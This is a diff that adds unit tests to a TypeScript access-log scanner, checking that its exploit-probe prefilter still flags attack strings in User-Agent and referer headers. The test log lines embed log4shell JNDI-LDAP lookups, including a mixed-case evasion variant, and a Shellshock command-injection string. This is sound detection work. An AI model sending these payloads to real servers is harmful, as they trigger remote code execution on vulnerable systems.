@@ -110,3 +110,35 @@ describe('Prefilter', () => {
     expect(pf.mayMatch(0, pass)).toBe(true);
   });
 });
+
+describe('header sentinels: a line whose headers hold none of the rare characters is not read for them', () => {
+  const exploit = compileRule('exploit-probes', PRESETS['exploit-probes']!);
+  const T = '02/Dec/2026:10:00:00 +0000';
+  const pass = (line: string): boolean => {
+    const ev = createLineParser('auto')(line);
+    if (isSkip(ev)) throw new Error(`skipped: ${ev}`);
+    const p = new Prefilter([exploit]);
+    const view = new MatchView();
+    view.reset(ev);
+    const token = p.pass(ev, view);
+    return token !== 0 && p.mayMatch(0, token) && exploit.matchesView(view);
+  };
+  it('log4shell and Shellshock in the User-Agent or the referer are still caught', () => {
+    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "\${jndi:ldap://198.18.9.9/a}"`)).toBe(true);
+    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "\${jNdI:ldap://198.18.9.9/a}" "Mozilla/5.0"`)).toBe(true);
+    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "() { :; }; /bin/bash -c id"`)).toBe(true);
+  });
+  it('the same lines without the sentinel character are not, and a sentinel only in the target does not open the header gates', () => {
+    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "jndi:ldap://198.18.9.9/a"`)).toBe(false);
+    expect(pass(`198.18.0.1 - - [${T}] "GET /x?q={} HTTP/1.1" 200 5 "-" "Mozilla/5.0"`)).toBe(false);
+  });
+  it('a parsed event answers for its own line only, even when it was parsed from a range of a larger text', () => {
+    const a = `198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"`;
+    const b = `198.18.0.2 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "\${jndi:x}"`;
+    const text = `${a}\n${b}\n`;
+    const ev = createLineParser('auto').range(text, 0, a.length) as AccessEvent;
+    expect(ev.headersMayHold!(['{'])).toBe(false);
+    const ev2 = createLineParser('auto').range(text, a.length + 1, a.length + 1 + b.length) as AccessEvent;
+    expect(ev2.headersMayHold!(['{'])).toBe(true);
+  });
+});
